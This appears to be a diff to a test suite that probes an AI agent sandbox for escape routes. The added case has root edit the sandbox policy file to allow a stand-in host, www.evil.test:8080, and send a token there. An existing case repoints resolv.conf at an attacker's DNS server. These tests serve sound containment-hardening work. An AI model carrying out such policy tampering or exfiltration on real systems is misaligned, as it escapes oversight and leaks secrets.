@@ -54,7 +54,8 @@ def _():
 
 
 @row("tamper.resolv_conf", "whoever names the resolver names the addresses", "evil:443 tls sni=resolv.example",
-     user="root", phase="alone", limit=50)
+     user="root", phase="apart", limit=50,
+     open="the daemon follows resolv.conf, which uid 0 may write")
 def _():
     """uid 0 names the attacker's DNS server as the container's, and waits for the daemon to ask it."""
     with open("/etc/resolv.conf", "r+") as file:
@@ -71,4 +72,26 @@ def _():
                 time.sleep(1)
     finally:
         with open("/etc/resolv.conf", "w") as file:
+            file.write(old)
+
+
+@row("tamper.policy", "whoever writes the policy is who allows", "evil:8080 raw", user="root", phase="restart", limit=12,
+     open="the policy is a file of root's, read on each start, and uid 0 may write it")
+def _():
+    """uid 0 adds the attacker to the policy before the sandbox is started anew."""
+    path = "/etc/agent-sandbox/policy.json"
+    with open(path) as file:
+        old = file.read()
+    with open(path, "w") as file:
+        file.write(old.replace('"allow":{', '"allow":{"www.evil.test":[8080],', 1))
+    print("ready", flush=True)
+    try:
+        for _ in range(8):
+            try:
+                tell(EVIL, 8080, T + b"\n")
+                return
+            except OSError:
+                time.sleep(1)
+    finally:
+        with open(path, "w") as file:
             file.write(old)
